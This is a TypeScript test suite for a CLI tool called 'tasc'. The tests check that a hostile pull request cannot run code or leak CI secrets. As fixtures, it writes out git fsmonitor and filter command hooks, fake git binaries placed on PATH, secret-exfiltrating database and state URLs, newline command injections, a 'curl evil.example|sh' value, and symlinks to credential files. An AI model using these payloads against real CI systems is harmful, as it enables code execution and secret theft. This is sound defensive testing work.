// A pull request can change every file of the project. `tasc plan` runs with the secrets of the
// job, and with a trust file that the pull request cannot change.
import { execFileSync } from "node:child_process";
import { createServer } from "node:http";
import { chmod, mkdir, symlink } from "node:fs/promises";
import { createServer as createSocketServer, type Server } from "node:net";
import { delimiter, join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import { type Project, scene } from "./support/cli.ts";
import { list, object, parseJson, text } from "./support/json.ts";
import { seed } from "./support/story.ts";

const SHOP =
  "target: shop\napp: Web Shop\nenvironments: { default: { discoveryUrl: https://shop.example.com } }\n";

/** A server that counts any connection as a stolen secret. */
async function thief(
  server: Server,
): Promise<{ readonly port: number; readonly caught: () => boolean }> {
  let caught = false;
  server.on("connection", () => (caught = true));
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  onTestFinished(() => void server.close());
  const address = server.address();
  return { port: typeof address === "object" ? (address?.port ?? 0) : 0, caught: () => caught };
}

async function refused(project: Project, says: string, ...args: readonly string[]): Promise<void> {
  const ran = await project.run(["plan", ...args]);
  expect(ran.code, ran.stdout + ran.stderr).toBe(3);
  expect(ran.stderr.replaceAll(/\s+/g, " ")).toContain(says);
}

describe("a hostile pull request", () => {
  test("cannot make git run a command through files that look like a bare repository", async () => {
    await scene({}, async ({ project }) => {
      const config = `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch ${project.dir}/ran; false"\n`;
      await project.write({
        "e2e/tasc.yaml": await project.read("tasc.yaml"),
        "e2e/targets/shop.yaml": SHOP,
        "e2e/HEAD": "ref: refs/heads/main\n",
        "e2e/config": config,
        "e2e/objects/keep": "",
        "e2e/refs/keep": "",
      });
      execFileSync("git", ["init", "-q"], { cwd: project.dir });
      const ran = await project.run(["plan", "--chdir", "e2e", "--out", "plan.json"]);
      expect(ran.code, ran.stdout + ran.stderr).toBe(0);
      expect(await project.files()).not.toContain("ran");
    });
  });

  test("cannot make git before 2.38 run a command through files that look like a bare repository", async () => {
    await scene({}, async ({ project }) => {
      const e2e = join(project.dir, "e2e");
      const config = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n";
      const manifests = {
        "e2e/tasc.yaml": await project.read("tasc.yaml"),
        "e2e/targets/shop.yaml": SHOP,
      };
      const bare = {
        "e2e/HEAD": "ref: refs/heads/main\n",
        "e2e/objects/keep": "",
        "e2e/refs/keep": "",
      };
      await project.write({ ...manifests, ...bare, "e2e/config": config });
      execFileSync("git", ["init", "-q"], { cwd: project.dir });
      const env = { ...process.env, GIT_DIR: e2e, GIT_WORK_TREE: e2e };
      execFileSync("git", ["add", "tasc.yaml"], { cwd: e2e, env });
      await project.write({
        "e2e/config": `${config}[filter "x"]\n\tclean = "touch ${project.dir}/ran; cat"\n`,
        "e2e/.gitattributes": "* filter=x\n",
        // Same content, but a later time, as after a checkout. So git reads the content again.
        ...manifests,
        // An older git ignores settings that it does not know.
        "old/git": `#!/bin/sh\nshift 4\nPATH="\${PATH#*:}" exec git -C "$GIT_FOLDER" "$@"\n`,
      });
      await chmod(join(project.dir, "old", "git"), 0o755);
      const ran = await project.run(["plan", "--chdir", "e2e", "--out", "plan.json"], {
        PATH: `${join(project.dir, "old")}${delimiter}${process.env["PATH"]}`,
        GIT_FOLDER: e2e,
      });
      expect(ran.code, ran.stdout + ran.stderr).toBe(0);
      expect(await project.files()).not.toContain("ran");
    });
  });

  test.for([".", "node_modules/.bin"])(
    "cannot make tasc run a program in %s as git",
    async (folder) => {
      await scene({}, async ({ project }) => {
        const ran = join(project.dir, "ran");
        const git = join(folder, "git");
        await project.write({ "targets/shop.yaml": SHOP, [git]: `#!/bin/sh\ntouch ${ran}\n` });
        await chmod(join(project.dir, git), 0o755);
        // npm puts the programs of all dependencies first in PATH.
        const first = folder === "." ? folder : join(project.dir, folder);
        const planned = await project.run(["plan", "--out", "plan.json"], {
          PATH: `${first}${delimiter}${process.env["PATH"]}`,
        });
        expect(planned.code, planned.stdout + planned.stderr).toBe(0);
        expect(await project.files()).not.toContain("ran");
      });
    },
  );

  test.for([
    ["markdown", "plan default -->", "<!-- tasc:plan default -->\n### tasc plan"],
    ["markdown", "```diff\n", "```diff\n"],
    ["markdown", "/details", "</details>"],
    ["html", "</style>\n</head>", "</style>\n</head>"],
    ["junit", 'skipped message="', 'skipped message="'],
    ["github", "::warning file=", "::warning file="],
  ] as const)(
    "cannot use a header value to have markup redacted from %s: %j",
    async ([format, value, markup]) => {
      await scene({}, async ({ project, service }) => {
        seed(service);
        const header = `{ X-A: ${JSON.stringify(value)} }`;
        const environment = `{ discoveryUrl: https://shop.example.com, additionalHeaderFields: ${header} }`;
        const path = "a\n![](https://evil.example.com/a.png)";
        await project.write({
          "targets/shop.yaml": `target: shop\napp: Web Shop\nenvironments: { default: ${environment} }\ntestCases: { login: { description: Log in, status: DISABLED, entryPointUrlPath: ${JSON.stringify(path)} } }\n`,
        });
        const saved = await project.run(["plan", "--format", format, "--out", "plan.json"]);
        expect(saved.stdout).toContain(markup);
        expect(saved.stdout).toContain("(sensitive)");
        const shown = await project.run(["show", "plan.json", "--format", format]);
        expect(shown.stdout).toContain(markup);
      });
    },
  );

  test.for(["json", "text"])(
    "cannot use a header value to have a change redacted from %s",
    async (format) => {
      await scene({}, async ({ project, service }) => {
        seed(service);
        const write = async (value: string) => {
          const header = `{ X-A: ${JSON.stringify(value)} }`;
          const environment = `{ discoveryUrl: https://shop.example.com, additionalHeaderFields: ${header} }`;
          const testCases = `{ login: { description: Log in, status: DISABLED } }`;
          await project.write({
            "targets/shop.yaml": `target: shop\napp: Web Shop\nenvironments: { default: ${environment} }\ntestCases: ${testCases}\n`,
          });
        };
        await write("plain");
        const { stdout } = await project.run(["plan", "--format", format]);
        const times = (text: string): number => text.split("testCase.shop.login").length;
        // From the middle of one value to the middle of the next; blanks between them do not
        // matter.
        const spelled = /ironment\.shop\.default[^]*?testCase\.shop\.lo/
          .exec(stdout)?.[0]
          .replaceAll(/\s+/g, " ");
        await write(spelled ?? "");
        const planned = await project.run(["plan", "--format", format, "--out", "plan.json"]);
        expect(times(planned.stdout)).toBe(times(stdout));
        const shown = await project.run(["show", "plan.json", "--format", format]);
        expect(times(shown.stdout)).toBe(times(stdout));
      });
    },
  );

  test.for([
    [
      "a path before the last @",
      "postgres://db.example.com/${secret:TASC_API_KEY}@127.0.0.1:PORT/x",
    ],
    ["a query before it", "postgres://db.example.com?a=${secret:TASC_API_KEY}@127.0.0.1:PORT/x"],
    ["a fragment before it", "postgres://db.example.com#${secret:TASC_API_KEY}@127.0.0.1:PORT/x"],
    ["a second server", "postgres://tasc:${secret:TASC_API_KEY}@db.example.com,127.0.0.1:PORT/x"],
  ])("cannot send secrets to another database through %s", async ([, address]) => {
    await scene({}, async ({ project }) => {
      const { port, caught } = await thief(createSocketServer((socket) => socket.destroy()));
      const url = String(address).replace("PORT", String(port));
      await project.write({
        "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: postgres, url: "${url}?sslmode=disable" }\n`,
        "targets/shop.yaml": SHOP,
        "trust.yaml": "version: 1\nstateHosts: [db.example.com]\n",
      });
      await refused(project, "", "--trust", "trust.yaml");
      expect(caught()).toBe(false);
    });
  });

  test.for([
    ["postgres", "url", "postgres://${secret:TASC_API_KEY}"],
    ["http", "address", "http://a.${secret:TASC_API_KEY}/{target}"],
  ])(
    "cannot leak parts of a secret through a state server address: %s",
    async ([backend, key, address]) => {
      await scene({ apiKey: "Alpha1/beta-22222,gamma-333333" }, async ({ project }) => {
        await project.write({
          "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: ${backend}, ${key}: "${address}" }\n`,
          "targets/shop.yaml": SHOP,
          "trust.yaml": "version: 1\nstateHosts: [db.example.com]\n",
        });
        const { stdout, stderr } = await project.run(["plan", "--trust", "trust.yaml"]);
        expect(stderr).toContain("(sensitive)");
        expect(stdout + stderr).not.toMatch(/alpha1|beta-2|gamma-3/i);
      });
    },
  );

  test.for([
    ["27182818", "1.158.198.226"],
    ["größte-Übung", "xn--grte-bung-h1a6wuc"],
  ] as const)(
    "cannot leak a secret as the normalized name of a state server: %s",
    async ([secret, name]) => {
      await scene({}, async ({ project }) => {
        const address =
          'state: { backend: http, address: "https://${secret:QA_PASSWORD}/{target}" }\n';
        await project.write({
          "tasc.yaml": `${await project.read("tasc.yaml")}${address}`,
          "targets/shop.yaml": SHOP,
          "trust.yaml": "version: 1\nstateHosts: [db.example.com]\n",
        });
        const trusted = ["plan", "--trust", "trust.yaml"];
        const { stdout, stderr } = await project.run(trusted, { QA_PASSWORD: secret });
        expect(stderr).toContain("does not allow state at (sensitive)");
        expect(stdout + stderr).not.toContain(name);
      });
    },
  );

  test("cannot send secrets to another state server or lock server", async () => {
    await scene({}, async ({ project }) => {
      const { port, caught } = await thief(createServer((_, response) => response.end()));
      const own = await project.read("tasc.yaml");
      const address = `http://127.0.0.1:${port}/{target}`;
      const options = `username: x, password: "\${secret:TASC_API_KEY}"`;
      const files = {
        "targets/shop.yaml": SHOP,
        "trust.yaml": "version: 1\nstateHosts: [localhost]\n",
      };
      await project.write({
        ...files,
        "tasc.yaml": `${own}state: { backend: http, address: "${address}", ${options} }\n`,
      });
      await refused(project, "does not allow state at 127.0.0.1", "--trust", "trust.yaml");
      const others = `address: "http://localhost:1/{target}", lockAddress: "${address}"`;
      await project.write({
        "tasc.yaml": `${own}state: { backend: http, ${others}, ${options} }\n`,
      });
      await refused(project, "does not allow state at 127.0.0.1", "--trust", "trust.yaml");
      expect(caught()).toBe(false);
    });
  });

  test.for([
    ["postgres", "url: postgres://127.0.0.1:1/app?sslmode=disable", "127.0.0.1:1/app/tasc.state"],
    ["postgres", "url: postgres://127.0.0.1:1/app, table: other", "127.0.0.1:1/app/tasc.other"],
    ["http", "address: 'http://127.0.0.1:1/a/{stage}/{target}'", "127.0.0.1:1/a/{stage}/{target}"],
    [
      "http",
      "address: 'http://127.0.0.1:1/a?of={target}', lock: false",
      "127.0.0.1:1/a?of={target}",
    ],
  ] as const)("cannot move state away from the place in the trust file: %s, %s", async (given) => {
    const [backend, options, place] = given;
    await scene({}, async ({ project }) => {
      await project.write({
        "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: ${backend}, ${options} }\n`,
        "targets/shop.yaml": SHOP,
      });
      for (const [allowed, code] of [
        [place, 0],
        ["127.0.0.1", 0],
        [place.replace("/a", "/A"), 3],
        [place.replace(":1", ":2"), 3],
        [`${place}x`, 3],
      ] as const) {
        // oxlint-disable-next-line no-await-in-loop
        await project.write({
          "trust.yaml": `version: 1\nstateLock: false\nstateHosts: ["${allowed}"]\n`,
        });
        // oxlint-disable-next-line no-await-in-loop
        const ran = await project.run(["validate", "--trust", "trust.yaml"]);
        expect(ran.code, allowed + ran.stderr).toBe(code);
      }
    });
  });

  test("cannot weaken the TLS, the locks or the owner of state", async () => {
    await scene({}, async ({ project }) => {
      const own = await project.read("tasc.yaml");
      await project.write({
        "targets/shop.yaml": SHOP,
        "trust.yaml": "version: 1\nstateHosts: [db.example.com]\n",
      });
      const url = "${secret:STATE_URL}?sslmode=disable";
      for (const [state, says, line] of [
        [
          `backend: postgres, url: "${url}"`,
          "state with TLS like `sslmode=disable`",
          "`stateTls: disable`",
        ],
        [
          'backend: postgres, url: "${secret:STATE_URL}", owner: tasc_apply',
          "this owner of state's schema",
          "`stateOwner: ROLE`",
        ],
        [
          'backend: http, address: "https://db.example.com/{target}", lock: false',
          "state without locks",
          "`stateLock: false`",
        ],
      ] as const) {
        // oxlint-disable-next-line no-await-in-loop
        await project.write({ "tasc.yaml": `${own}state: { ${state} }\n` });
        // oxlint-disable-next-line no-await-in-loop
        const ran = await project.run(["plan", "--trust", "trust.yaml"], {
          STATE_URL: "postgres://tasc:of-the-database@db.example.com/app",
        });
        expect(ran.code, ran.stderr).toBe(3);
        const shown = ran.stderr.replaceAll(/\s+/g, " ");
        expect(shown).toContain(`The trust file does not allow ${says}`);
        expect(shown).toContain(line);
      }
    });
  });

  test.for(["%7Bstage%7D/%7Btarget%7D", "%7Bstage%7D/{target}", "{sta\\tge}/{target}"])(
    "cannot disguise another place of state as the one in the trust file: %s",
    async (path) => {
      await scene({}, async ({ project }) => {
        await project.write({
          "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: http, address: "http://127.0.0.1:1/a/${path}" }\n`,
          "targets/shop.yaml": SHOP,
          "trust.yaml": 'version: 1\nstateHosts: ["127.0.0.1:1/a/{stage}/{target}"]\n',
        });
        const { stderr } = await project.run(["state", "list", "--trust", "trust.yaml"]);
        expect(stderr).toContain("http://127.0.0.1:1/a/default/_index");
      });
    },
  );

  test.for([
    "127.0.0.1:1/a#{target}",
    "{target}@127.0.0.1:1/a",
    "%7Btarget%7D@127.0.0.1:1/a#{stage}",
  ])(
    "cannot have another document read than that of the place in the trust file: %s",
    async (address) => {
      await scene({}, async ({ project }) => {
        await project.write({
          "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: http, address: "http://${address}" }\n`,
          "targets/shop.yaml": SHOP,
          "trust.yaml": 'version: 1\nstateHosts: ["127.0.0.1:1/a"]\n',
        });
        const { stderr } = await project.run(["state", "list", "--trust", "trust.yaml"]);
        expect(stderr).toContain("http://127.0.0.1:1/a/default/_index");
      });
    },
  );

  test.for([
    "me@127.0.0.1:1/a?application_name=x%00database%00b",
    "me%00database%00b@127.0.0.1:1/a",
  ])("cannot name another database behind a zero byte: %s", async (url) => {
    await scene({}, async ({ project }) => {
      await project.write({
        "tasc.yaml": `${await project.read("tasc.yaml")}state: { backend: postgres, url: "postgres://${url}" }\n`,
        "targets/shop.yaml": SHOP,
        "trust.yaml": 'version: 1\nstateHosts: ["127.0.0.1:1/a/tasc.state"]\n',
      });
      await refused(project, "it has a zero byte", "--trust", "trust.yaml");
    });
  });

  test("cannot move state to a server if the trust file only limits origins or is the one from `init`", async () => {
    await scene({}, async ({ project, service }) => {
      expect((await project.run(["init", "--chdir", "new"])).code).toBe(0);
      const state = 'state: { backend: postgres, url: "postgres://127.0.0.1:1/x" }\n';
      await project.write({
        "tasc.yaml": `${await project.read("tasc.yaml")}${state}`,
        "targets/shop.yaml": SHOP,
        "trust.yaml": `version: 1\norigins: ["${service.url}"]\n`,
      });
      const says = "does not allow state at 127.0.0.1";
      await refused(project, says, "--trust", "trust.yaml");
      await refused(project, says, "--trust", "new/tasc-trust.yaml");
    });
  });

  test.for([
    'state: { fingerprintKey: "${secret:TASC_BASE_URL}" }\n',
    'state: { fingerprintKey: "${file:known.txt}" }\n',
    'state: { fingerprintKey: "${file:node_modules/pad/known.txt}" }\n',
    'vars: { known: "${file:known.txt}" }\nstate: { fingerprintKey: "${var:known}" }\n',
    'stages: { default: { service: { apiKey: "${file:known.txt}" } } }\n',
  ])(
    "cannot set a known fingerprint key to guess passwords from a saved plan: %j",
    async (keys) => {
      await scene({}, async ({ project }) => {
        const settings = await project.read("tasc.yaml");
        await project.write({
          "tasc.yaml": settings + keys,
          "targets/shop.yaml": SHOP,
          "known.txt": "known-to-whoever-wrote-it",
          "node_modules/pad/known.txt": "known-to-whoever-installs-it",
          "trust.yaml": "version: 1\nvariables: [TASC_BASE_URL, TASC_API_KEY]\n",
        });
        const git = (...args: readonly string[]) => execFileSync("git", args, { cwd: project.dir });
        git("init", "--quiet");
        git("add", "known.txt");
        await refused(project, "does not allow this key of fingerprints", "--trust", "trust.yaml");
        // A file of a submodule is not the job's own either.
        await project.write({
          "tasc.yaml": settings + keys.replaceAll("known.txt", "sub/known.txt"),
          "sub/known.txt": "known-to-whoever-wrote-it",
        });
        execFileSync("git", ["init", "--quiet"], { cwd: join(project.dir, "sub") });
        execFileSync("git", ["add", "known.txt"], { cwd: join(project.dir, "sub") });
        await refused(project, "does not allow this key of fingerprints", "--trust", "trust.yaml");
        await project.write({
          "tasc.yaml": `${settings}state: { fingerprintKey: "\${secret:TASC_API_KEY}" }\n`,
        });
        const ran = await project.run(["plan", "--trust", "trust.yaml"]);
        expect(ran.code, ran.stderr).toBe(0);
      });
    },
  );

  test("can use the fingerprint key that `init` created, but only while it is not in git", async () => {
    await scene({}, async ({ project }) => {
      execFileSync("git", ["init", "--quiet"], { cwd: project.dir });
      await project.run(["init", "--chdir", "new"]);
      delete project.env["TASC_BASE_URL"];
      const own = ["validate", "--chdir", "new", "--trust", "new/tasc-trust.yaml"];
      expect(await project.run(own)).toMatchObject({ code: 0, stderr: "" });
      execFileSync("git", ["add", "--force", "new/fingerprint.key"], { cwd: project.dir });
      expect((await project.run(own)).stderr).toContain("does not allow this key of fingerprints");
    });
  });

  test("cannot add a stage to bypass the limits of the stages in the trust file", async () => {
    await scene({}, async ({ project, service }) => {
      await project.write({
        "tasc.yaml": `${await project.read("tasc.yaml")}defaultStage: evil\nstages: { production: {}, evil: {} }\n`,
        "targets/shop.yaml": SHOP,
        "trust.yaml":
          "version: 1\nstages: { production: { origins: ['https://prod.example.com'] } }\n",
      });
      await refused(project, "does not allow the stage evil", "--trust", "trust.yaml");
      expect(service.log).toEqual([]);
    });
  });

  test("cannot make `explain` print a forbidden variable by overriding the field that uses it", async () => {
    await scene({}, async ({ project }) => {
      const reads = `testAccount: { username: "\${env:DEPLOY_DSN}", password: "\${secret:TASC_API_KEY}" }`;
      const own = `default: { discoveryUrl: https://a.example.com, testAccount: { username: bot } }`;
      await project.write({
        "targets/a.yaml": `target: a\napp: A\ndefaults: { environments: { ${reads} } }\nenvironments: { ${own} }\n`,
        "trust.yaml": "version: 1\nvariables: [TASC_*]\n",
      });
      const explain = ["explain", "environment.a.default", "--offline", "--trust", "trust.yaml"];
      const ran = await project.run(explain, { DEPLOY_DSN: "Server=db;Pwd=Sup3r-secret" });
      expect(ran.code, ran.stderr).toBe(0);
      expect(ran.stdout).toContain("${secret:TASC_API_KEY} = (sensitive)");
      expect(ran.stdout).not.toContain("Sup3r");
    });
  });

  test("cannot show content that the job wrote to a file, even if the file was committed before", async () => {
    await scene({}, async ({ project }) => {
      const secrets = ["Sup3r-secret-of-qa", "Sup3r-secret-of-gate", "Sup3r-secret-database"];
      const texts =
        "${file:secrets/qa.txt} ${file:./secrets/gate.txt} ${file:ci/job.env} ${file:prompt.txt}";
      await project.write({
        "targets/shop.yaml": `${SHOP}testCases: { a: { description: "${texts}", discovery: { prompt: "\${file:prompt.txt}" } } }\n`,
        "trust.yaml": "version: 1\nvariables: [TASC_*]\n",
        "secrets/gate.txt": "",
        "ci/job.env": `DB_PASSWORD=${secrets[2]}\n`,
        "prompt.txt": "Look around.",
      });
      execFileSync("git", ["init", "-q"], { cwd: project.dir });
      execFileSync("git", ["add", "targets", "secrets", "prompt.txt"], { cwd: project.dir });
      await project.write({
        "secrets/qa.txt": secrets[0] ?? "",
        "secrets/gate.txt": secrets[1] ?? "",
      });
      const ran = await project.run([
        "plan",
        "--trust",
        "trust.yaml",
        "--dotenv",
        "ci/job.env",
        "--out",
        "plan.json",
      ]);
      expect(ran.code, ran.stderr).toBe(0);
      for (const text of [ran.stdout, await project.read("plan.json")]) {
        expect(text).toContain("Look around.");
        for (const secret of secrets) expect(text).not.toContain(secret);
      }
    });
  });

  test.for([
    ["a pattern", "secrets/qa.txt", ""],
    ["a link as a manifest", "targets/a.yaml", "../secrets/qa.txt"],
    ["a link as the project's file", "tasc.yaml", "secrets/qa.txt"],
  ] as const)("cannot use %s to show content that the job wrote", async ([, place, to]) => {
    await scene({}, async ({ project }) => {
      const own = await project.read("tasc.yaml");
      await project.write({
        "tasc.yaml": `${own}manifests: ["secrets/*", "targets/*"]\n`,
        "targets/shop.yaml": `${SHOP}testCases: { a: { prompt: 1 } }\n`,
        "trust.yaml": "version: 1\nvariables: [TASC_*]\n",
        "secrets/keep": SHOP.replace("shop", "other"),
      });
      if (to !== "") await project.remove(place);
      if (to !== "") await symlink(to, join(project.dir, place));
      execFileSync("git", ["init", "-q"], { cwd: project.dir });
      execFileSync("git", ["add", "."], { cwd: project.dir });
      for (const secret of [
        "Sup3r-secret-of-qa",
        "QA_PASSWORD: Sup3r-secret-of-qa",
        '{ target: "Sup3r-secret',
      ]) {
        // oxlint-disable-next-line no-await-in-loop
        await project.write({ "secrets/qa.txt": `${secret}\n` });
        for (const args of [["plan"], ["plan", "--json"], ["validate", "--format", "github"]]) {
          // oxlint-disable-next-line no-await-in-loop
          const ran = await project.run([...args, "--trust", "trust.yaml"]);
          expect(ran.code, ran.stderr).toBe(3);
          expect(ran.stdout + ran.stderr).toContain("The mistakes in this file are not shown");
          expect(ran.stdout + ran.stderr).not.toContain("Sup3r");
          // Mistakes in committed files are still shown.
          if (place !== "tasc.yaml")
            expect(ran.stdout + ran.stderr).toContain("Unknown key `prompt`");
        }
      }
    });
  });

  test.for([
    ["a key", { "targets/shop.yaml": `${SHOP}"x\\ntasc apply --auto-approve\\n": 1\n` }, []],
    [
      "a file",
      {
        "targets/x\ntasc apply\n.yaml": `${SHOP}testIdAttribute: a\n`,
        "targets/shop.yaml": `${SHOP}testIdAttribute: b\n`,
      },
      [],
    ],
    [
      "a protected name",
      {
        "targets/shop.yaml": `${SHOP}testCases: { login: { description: Log in, status: DISABLED } }\n`,
        "tasc.yaml": 'policy: { protected: ["{testCase.*,\\ntasc apply\\n}"] }\n',
      },
      [],
    ],
    [
      "a note of where state was",
      {
        "targets/shop.yaml": `${SHOP}testCases: { login: { description: Log in, status: DISABLED } }\n`,
        "tasc.yaml": 'policy: { protected: ["testCase.*"] }\n',
        ".tasc/backend/default.json": JSON.stringify({
          backend: "http\ntasc apply\n",
          place: "x\ntasc apply",
        }),
      },
      ["tasc state migrate --from-config FILE"],
    ],
    [
      "a lock",
      {
        "targets/shop.yaml": SHOP,
        ".tasc/state/default/shop.lock": JSON.stringify({
          id: "x;curl evil.example|sh",
          who: "me\ntasc apply --auto-approve\n",
          since: "now",
          why: "apply",
        }),
      },
      ["tasc state unlock shop --stage default"],
    ],
  ] as const)(
    "cannot inject commands into the next steps through %s",
    async ([, files, commands]) => {
      await scene({}, async ({ project, service }) => {
        seed(service);
        const { "tasc.yaml": policy, ...others } = { "tasc.yaml": "", ...files };
        await project.write({
          ...others,
          "tasc.yaml": `${await project.read("tasc.yaml")}${policy}`,
        });
        const { stdout } = await project.run(["apply", "--auto-approve", "--json"]);
        const { next } = object(parseJson(stdout.trim().split("\n").at(-1) ?? ""));
        const said = list(next).map(text);
        expect(said.filter((one) => !["tasc validate", "tasc doctor"].includes(one))).toEqual(
          commands,
        );
      });
    },
  );

  test("cannot verify a guessed password with the digests of a plan from a snapshot", async () => {
    await scene({}, async ({ project, service }) => {
      seed(service);
      await project.write({ "targets/shop.yaml": SHOP });
      expect((await project.run(["snapshot", "--out", "live.json"])).code).toBe(0);
      const settings = await project.read("tasc.yaml");
      const plan = ["plan", "--snapshot", "live.json", "--out", "plan.json"];
      const saved = async (apiKey: string, state = ""): Promise<string> => {
        const lines = settings.replace(/apiKey: .*/, `apiKey: "\${secret:${apiKey}}"`);
        await project.write({
          "tasc.yaml": `${lines}${state}`,
          "targets/shop.yaml": `${SHOP}testCases: { new: { description: New, discovery: { prompt: Go. } } }\n`,
        });
        const ran = await project.run(plan, { PIN: "4711", RANDOM_KEY: "0123456789abcdef" });
        expect(ran.code, ran.stdout + ran.stderr).toBe(0);
        return project.read("plan.json");
      };
      // With a snapshot, the service does not check that this is its key.
      expect(await saved("PIN")).toMatch(/"guards": \{\}\s*\}\s*\}\s*$/);
      expect((await project.run(["show", "plan.json"])).stdout).toContain(
        "This plan is not verified",
      );
      const sealed = await saved("PIN", 'state: { fingerprintKey: "${secret:RANDOM_KEY}" }\n');
      expect(sealed).toMatch(/"guards": \{\}\s*\},\s*"seal": "/);
    });
  });

  test("cannot inject commands into the next steps through a snapshot", async () => {
    await scene({}, async ({ project }) => {
      await project.write({ "targets/shop.yaml": SHOP });
      expect((await project.run(["snapshot", "--out", "live.json"])).code).toBe(0);
      const { stage, ...rest } = object(parseJson(await project.read("live.json")));
      const other = { ...rest, stage: `${text(stage)}\ntasc apply --auto-approve\n` };
      await project.write({ "live.json": JSON.stringify(other) });
      const { code, stdout } = await project.run(["plan", "--snapshot", "live.json", "--json"]);
      expect(code).toBe(3);
      expect(list(object(parseJson(stdout))["next"])).toEqual(["tasc validate"]);
    });
  });

  test("cannot make tasc print files with credentials by using them as manifests", async () => {
    await scene({}, async ({ project }) => {
      const own = await project.read("tasc.yaml");
      const token = "basic-Z2hzX3Rva2Vu";
      await project.write({
        ".git/config": `[http]\n\textraheader = ${token}\n`,
        ".env": `KEY=${token}\n`,
      });
      await mkdir(join(project.dir, "targets"));
      await symlink("../.git/config", join(project.dir, "targets/a.yaml"));
      for (const patterns of [
        "",
        'manifests: [".env"]\n',
        'manifests: [".git/*"]\n',
        'manifests: [".*"]\n',
      ]) {
        // oxlint-disable-next-line no-await-in-loop
        await project.write({ "tasc.yaml": own + patterns });
        // oxlint-disable-next-line no-await-in-loop
        const ran = await project.run(["plan"]);
        expect(ran.code).toBe(3);
        expect(ran.stderr).toContain("A hidden file cannot be a manifest");
        expect(ran.stderr).not.toContain(token);
      }
      for (const place of [".env", "/etc/hosts"]) {
        // oxlint-disable-next-line no-await-in-loop
        await project.remove("tasc.yaml");
        // oxlint-disable-next-line no-await-in-loop
        await symlink(place, join(project.dir, "tasc.yaml"));
        // oxlint-disable-next-line no-await-in-loop
        const ran = await project.run(["plan"]);
        expect(ran.code).toBe(3);
        expect(ran.stderr).toContain("tasc.yaml is a symbolic link");
        expect(ran.stderr).not.toMatch(/basic-|localhost/);
      }
    });
  });
});
